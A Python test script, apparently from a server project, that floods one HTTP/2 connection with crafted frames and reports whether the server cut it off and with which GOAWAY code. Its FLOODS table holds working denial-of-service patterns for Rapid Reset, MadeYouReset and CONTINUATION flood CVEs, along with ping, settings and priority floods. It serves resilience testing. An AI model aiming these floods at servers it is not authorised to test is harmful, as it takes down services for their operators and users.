# SPDX-License-Identifier: Apache-2.0
"""usage: h2_floods.py PORT KIND [CA]: floods one connection until it is cut, or all is sent.

Kinds with `-deaf` do not read what comes back. Prints `cut 0|1 code N frames N bytes N ms N`: the
code of GOAWAY (-1: none came), and what was sent until the end.
"""
import select
import sys
import time

from h2raw import *

port, kind = int(sys.argv[1]), sys.argv[2]
tls = sys.argv[3] if len(sys.argv) > 3 else None
MOST = 200_000
scheme = "http" if tls is None else "https"
HEAD = block(request(path="/charts/hold", scheme=scheme))
POST = block(request("POST", "/charts/hold", scheme=scheme))


def streams(make):
    for number in range(MOST):
        yield make(1 + 2 * number)


def repeat(data):
    for _ in range(MOST):
        yield data


def block_of(stream, payload, flags=5):
    return frame(HEADERS, flags, stream, payload)


def continuation(payload):
    yield block_of(1, HEAD, 1)
    yield from repeat(frame(CONTINUATION, 0, 1, payload))


def opened(data):
    yield block_of(1, POST, 4)
    yield from repeat(data)


FLOODS = {
    # CVE-2023-44487: streams opened and reset by us.
    "rapid-reset": lambda: streams(lambda s: block_of(s, HEAD) + rst(s)),
    # CVE-2025-8671: streams that the server resets, or has to.
    "made-you-reset-window": lambda: streams(lambda s: block_of(s, HEAD) + window(s, 0)),
    "made-you-reset-overflow": lambda: streams(lambda s: block_of(s, HEAD) + window(s, (1 << 31) - 1)),
    "made-you-reset-closed": lambda: streams(lambda s: block_of(s, HEAD) + frame(DATA, 0, s, b"x")),
    "made-you-reset-length": lambda: streams(lambda s: block_of(
        s, POST + literal("content-length", "5")) ),
    "made-you-reset-malformed": lambda: streams(lambda s: block_of(s, HEAD + literal("X", "y"))),
    "made-you-reset-priority": lambda: streams(lambda s: block_of(s, HEAD) + frame(PRIORITY, 0, s, b"\0\0\0\0")),
    # More streams than allowed, over and over.
    "streams": lambda: streams(lambda s: block_of(s, HEAD)),
    # CVE-2024-27316 and its kin.
    "continuation": lambda: continuation(literal("x", "y" * 100)),
    "continuation-empty": lambda: continuation(b""),
    "continuation-byte": lambda: continuation(b"\xbe"),
    "continuation-large": lambda: continuation(literal("x", "y" * 16_000)),
    "ping": lambda: repeat(frame(PING, 0, 0, b"12345678")),
    "ping-deaf": lambda: repeat(frame(PING, 0, 0, b"12345678")),
    "settings": lambda: repeat(settings()),
    "settings-deaf": lambda: repeat(settings()),
    "settings-window": lambda: repeat(settings((4, 1)) + settings((4, 65_535))),
    "settings-table": lambda: repeat(settings((1, 0)) + settings((1, 4_096))),
    "priority": lambda: repeat(frame(PRIORITY, 0, 1, b"\0\0\0\0\1")),
    "priority-idle": lambda: streams(lambda s: frame(PRIORITY, 0, s + 2, b"\0\0\0\0\1")),
    "empty-data": lambda: opened(frame(DATA, 0, 1)),
    "padded-data": lambda: opened(frame(DATA, 8, 1, b"\0")),
    "window-update": lambda: repeat(window(0, 1)),
    "window-update-stream": lambda: opened(window(1, 1)),
    "empty-headers": lambda: opened(block_of(1, b"", 4)),
    "unknown": lambda: repeat(frame(0x42, 0, 0)),
    "goaway": lambda: repeat(frame(GOAWAY, 0, 0, b"\0" * 8)),
    "rst-closed": lambda: opened(rst(1)),
    "settings-ack": lambda: repeat(frame(SETTINGS, 1, 0)),
    "ping-ack": lambda: repeat(frame(PING, 1, 0, b"12345678")),
}
raw = Raw(port, tls)
begin = time.monotonic()
sent = size = 0
code = -1
is_cut = False


def look(wait):
    """Takes what has come; False at the end."""
    global code
    while True:
        got = raw.frame(time.monotonic() + wait)
        if got is None:
            return not raw.is_closed
        if got[0] == SETTINGS and not got[1] & ACK:
            raw.send(frame(SETTINGS, ACK, 0))
        if got[0] == GOAWAY:
            value = int.from_bytes(got[3][4:8], "big")
            code = value if value else code
        wait = 0


batch = b""
for data in FLOODS[kind]():
    batch += data
    sent += 1
    if sent % (512 if kind == "streams" else 64) == 0:
        size += len(batch)
        raw.peer.settimeout(20)
        if not raw.send(batch):
            is_cut = True
            break
        batch = b""
        if not kind.endswith("-deaf") and not look(0):
            is_cut = True
            break
if not is_cut:
    raw.send(batch)
# The end, or silence.
deadline = time.monotonic() + 15
while not raw.is_closed and time.monotonic() < deadline:
    if not look(1):
        break
print("cut", int(raw.is_closed or is_cut), "code", code, "frames", sent, "bytes", size,
      "ms", int((time.monotonic() - begin) * 1000))
